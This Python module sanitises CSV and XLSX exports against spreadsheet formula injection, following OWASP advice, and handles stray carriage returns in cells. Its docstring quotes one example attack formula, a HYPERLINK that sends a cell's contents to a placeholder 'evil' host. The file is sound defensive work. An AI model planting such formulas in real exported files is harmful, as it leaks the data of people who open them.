"""Files that people open in a spreadsheet (CSV exports): no cell may run as a formula.

A name such as ``=HYPERLINK("http://evil/?"&A1,"Click")`` or a code starting with ``@`` or ``+`` is a formula to
Excel, LibreOffice and Google Sheets, which can leak the sheet's other cells or run a command. As OWASP
recommends, a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single
quote in front, so that the program shows it as text. A plain number (``+923001234567``, ``-12.5``) stays as it
is: it cannot run as anything, and a phone number in E.164 must reach RapidPro unchanged.

A carriage return inside a cell is the other trap: the csv module quotes a cell only for the characters of its
line terminator, so with ``"\n"`` line ends a bare CR stays unquoted, and every reader (RapidPro, Excel, Python)
ends the row there, so that the rest of the cell becomes a row of its own. A row with such a cell is written with
every cell quoted.

Every export writes through ``writer`` or ``DictWriter`` here, never ``csv.writer`` directly.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)*")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will show it and never run it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def _has_carriage_return(cells: Iterable[Any]) -> bool:
    return any(isinstance(value, str) and "\r" in value for value in cells)


class _SafeWriter:
    def __init__(self, out, **options) -> None:
        self._writer = csv.writer(out, **options)
        self._quoting_writer = csv.writer(out, **{**options, "quoting": csv.QUOTE_ALL})

    def writerow(self, row: Iterable[Any]):
        cells = [safe_cell(value) for value in row]
        return (self._quoting_writer if _has_carriage_return(cells) else self._writer).writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> _SafeWriter:
    """``csv.writer`` whose cells cannot run as formulas."""
    return _SafeWriter(out, **options)


class DictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose cells cannot run as formulas."""

    def __init__(
        self, f, fieldnames, restval="", extrasaction="raise", dialect="excel", *args, **kwds
    ) -> None:
        super().__init__(f, fieldnames, restval, extrasaction, dialect, *args, **kwds)
        self._quoting_writer = csv.writer(f, dialect, *args, **{**kwds, "quoting": csv.QUOTE_ALL})

    def writerow(self, rowdict: Mapping[str, Any]):
        safe = {key: safe_cell(value) for key, value in rowdict.items()}
        if _has_carriage_return(safe.values()):
            return self._quoting_writer.writerow(self._dict_to_list(safe))
        return super().writerow(safe)

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


def xlsx_bytes(sheets: Mapping[str, Iterable[Iterable[Any]]]) -> bytes:
    """An XLSX workbook with one sheet per entry (in order), every cell through ``safe_cell``. Written in
    openpyxl's write-only mode: rows stream out instead of being kept as cell objects (faster, less memory for
    an export of tens of thousands of rows)."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append([safe_cell(value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
